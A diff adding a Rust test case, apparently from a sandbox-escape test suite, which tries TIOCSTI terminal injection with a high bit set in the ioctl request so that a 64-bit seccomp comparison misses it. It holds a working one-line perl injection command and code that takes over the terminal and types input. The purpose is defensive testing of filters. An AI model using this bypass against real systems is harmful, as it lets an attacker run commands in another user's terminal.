@@ -1,0 +1,42 @@
+//! tty-inject-high-bits: the same request in a form that a careless filter does not know.
+
+use super::{Attempt, Letters, Need};
+use crate::inside::terminal;
+use crate::{Host, Inside, Seen};
+use nix::errno::Errno;
+use nix::libc;
+
+/// The attempt.
+pub const ATTEMPT: Attempt = Attempt {
+    id: "tty-inject-high-bits",
+    stake: "The same as with tty-inject-own: the input of whoever reads from the terminal next.",
+    story: "The kernel takes the request of ioctl(2) as 32 bits; a seccomp filter sees all 64 bits of the \
+            register. The attacker sets a bit above the lower half: 0x100005412 is TIOCSTI for the kernel, and \
+            some other number for a filter that compares 64 bits, so that it lets it pass. The filter must compare \
+            what the kernel uses, the lower half alone.",
+    by_hand: &["setsid -c perl -e 'syscall(16, 2, 0x100005412, $_) for split //, \"id\\n\"'    # x86-64"],
+    stopped_by: &["lab5-seccomp/tiocsti"],
+    man: &["ioctl(2)", "ioctl_tty(2)", "seccomp(2)"],
+    letters: Letters { root: "E EEEEEBB", user: "E EEEEEBB", rootless: "E EEEEEBB" },
+    needs: &[Need::FreeTerminal],
+    decisive: &[libc::SYS_ioctl],
+    inside,
+    witness,
+};
+
+/// TIOCSTI with a bit that the kernel does not look at.
+const REQUEST: u64 = 1 << 32 | libc::TIOCSTI;
+
+fn inside(me: &mut Inside) -> Result<(), Errno> {
+    let terminal = terminal::inherited();
+    me.decisive(&format!("setsid(), ioctl({terminal}, TIOCSCTTY), ioctl({terminal}, {REQUEST:#x}, ...)"));
+    terminal::take(terminal)?;
+    terminal::type_line(terminal, REQUEST, me.mark())
+}
+
+fn witness(host: &Host) -> Seen {
+    if host.typed_mark() {
+        return Seen::Effect("a line of the attacker's came in over the terminal as typed input".into());
+    }
+    Seen::Nothing
+}
